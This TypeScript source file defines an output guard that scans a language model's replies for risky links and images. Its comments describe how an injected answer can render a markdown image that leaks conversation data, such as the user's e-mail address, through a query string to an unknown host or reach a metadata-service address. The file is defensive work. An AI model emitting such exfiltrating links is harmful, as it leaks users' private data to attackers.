import { z } from 'zod';
import { type Finding, findingFor, type Guard, type GuardFactory, type Segment, trailingTokenSuffix } from '../../core/index.js';
import { maskPlaceholders, placeholderSpans } from '../../transform/placeholder.js';
import { domainMatches } from '../toolcalls/net.js';
import { analyzeUrl, parseUrl, urlsInText, type UrlPolicy } from '../toolcalls/urls.js';

const level = z.enum(['deny', 'review', 'allow']);

export const linksConfigSchema = z.strictObject({
  /** Domains trusted with data (`example.com` covers its subdomains). */
  allowDomains: z.array(z.string().min(1)).default([]),
  denyDomains: z.array(z.string().min(1)).default([]),
  /** A data-bearing query string to a domain not allowed: the markdown-image exfiltration channel. */
  dataToUnknown: level.default('deny'),
  /** Links to private, loopback and link-local addresses. */
  privateNetwork: level.default('deny'),
  /** Longest URL judged; a stream holds back at most this much of an unfinished link. */
  maxSpan: z.number().int().min(64).max(8192).default(2048),
});
export type LinksConfig = z.infer<typeof linksConfigSchema>;

/**
 * Links and images in the model's own text (markdown, HTML, bare URLs). A rendered image fetches its
 * URL without a click: an injected answer can leak conversation data in the query string. Findings
 * (`link.<category>`) carry the URL's span, so the default policy redacts just the link.
 */
export const linksGuardFactory: GuardFactory<LinksConfig> = {
  name: 'links',
  description: 'Links and images in model output: data-bearing URLs to unknown domains, private addresses, denied domains, unsafe schemes.',
  schema: linksConfigSchema,
  create(config, options): Guard {
    const policy: UrlPolicy = {
      allow: config.allowDomains,
      deny: config.denyDomains,
      unknownDomain: 'allow',
      dataToUnknown: config.dataToUnknown,
      privateNetwork: config.privateNetwork,
    };
    return {
      id: options.id,
      fingerprint: `links:${JSON.stringify(config)}`,
      failOpen: options.failOpen,
      timeoutMs: options.timeoutMs,
      maxSpan: config.maxSpan,
      // URLs hold no whitespace: only the last word can still grow into (or finish) a link.
      pendingSuffix: (text: string) => trailingTokenSuffix(text, config.maxSpan - 1),
      appliesTo: (segment: Segment) => segment.direction === 'output' && segment.kind === 'message',
      inspect(segment: Segment): Finding[] {
        if (!segment.text.includes(':')) return [];
        const withheld = placeholderSpans(segment.text);
        const text = withheld.length > 0 ? maskPlaceholders(segment.text, withheld) : segment.text;
        const findings: Finding[] = [];
        const report: Report = (link, category, severity, score, reason) => {
          findings.push(findingFor(options.id, segment, `link.${category}`, severity === 'deny' ? score : Math.min(score, 0.7), `${link.image ? 'image' : 'link'}: ${reason}`, { start: link.start, end: link.end }));
        };
        for (const link of urlsInText(text)) {
          const inside = withheld.length === 0 ? withheld : withheld.filter((p) => p.start >= link.start && p.end <= link.end);
          // A withheld host is the whole verdict: what the masked name would say about it means nothing.
          if (inside.length > 0 && judgeWithheld(link, inside, text, policy, config.dataToUnknown, report)) continue;
          const issues = analyzeUrl(link.url, policy);
          for (const issue of issues) report(link, issue.category, issue.level, issue.score, issue.reason);
          if (config.dataToUnknown !== 'allow' && !issues.some((i) => i.category === 'data_exfiltration' || i.category === 'private_network')) {
            const host = addressInQuery(link.url, policy);
            if (host) report(link, 'data_exfiltration', config.dataToUnknown, 0.85, `sends an e-mail address in its query to ${host}, which is not on the allow list`);
          }
        }
        return findings;
      },
    };
  },
};

type FoundUrl = ReturnType<typeof urlsInText>[number];
type Report = (link: FoundUrl, category: string, severity: z.infer<typeof level>, score: number, reason: string) => void;

/**
 * A link that holds a pseudonym placeholder gets the real value back after the output guards ran
 * (the answer is restored last), so what the client receives cannot be judged from this text:
 * `http://<IP_ADDRESS_1>/latest/meta-data/` may be the metadata service, and
 * `https://x.example/p.png?u=<EMAIL_ADDRESS_1>` sends the user's own e-mail address out as soon as
 * the image renders. A withheld host (or a URL that does not parse) is refused: true, the link's whole
 * verdict. A withheld value elsewhere in the URL is data sent to that domain, judged like any
 * data-bearing query (`dataToUnknown`) unless the domain is allowed.
 */
function judgeWithheld(link: FoundUrl, inside: readonly { start: number; end: number; label: string }[], text: string, policy: UrlPolicy, dataToUnknown: z.infer<typeof level>, report: Report): boolean {
  const url = parseUrl(link.url);
  const labels = [...new Set(inside.map((p) => p.label))].join(', ');
  const host = url?.hostname.toLowerCase();
  if (host === undefined || inside.some((p) => host.includes(text.slice(p.start, p.end).toLowerCase()))) {
    report(link, 'withheld_host', 'deny', 0.95, `its host is a value withheld from the model (${labels}), put back after the guards: where it leads cannot be judged`);
    return true;
  }
  if (dataToUnknown !== 'allow' && !policy.allow.some((d) => domainMatches(d, host))) {
    report(link, 'data_exfiltration', dataToUnknown, 0.9, `it would carry a value of the conversation (${labels}) to ${host}, which is not on the allow list`);
  }
  return false;
}

const EMAIL = /[A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63})*\.[A-Za-z]{2,24}/;

/**
 * The host a URL would send an e-mail address to in its query or fragment, when that host is not
 * trusted with data: short personal data escapes the length and entropy test of a data-bearing query
 * (`?e=john.smith@example.com`), and a rendered image sends it without a click.
 */
function addressInQuery(raw: string, policy: UrlPolicy): string | undefined {
  const url = parseUrl(raw);
  if (!url || (url.protocol !== 'http:' && url.protocol !== 'https:')) return undefined;
  const host = url.hostname.toLowerCase();
  if (policy.allow.some((d) => domainMatches(d, host))) return undefined;
  let data = url.search + url.hash;
  try {
    data = decodeURIComponent(data.replace(/\+/g, ' '));
  } catch {
    // a malformed escape: read it as written
  }
  return EMAIL.test(data) ? host : undefined;
}
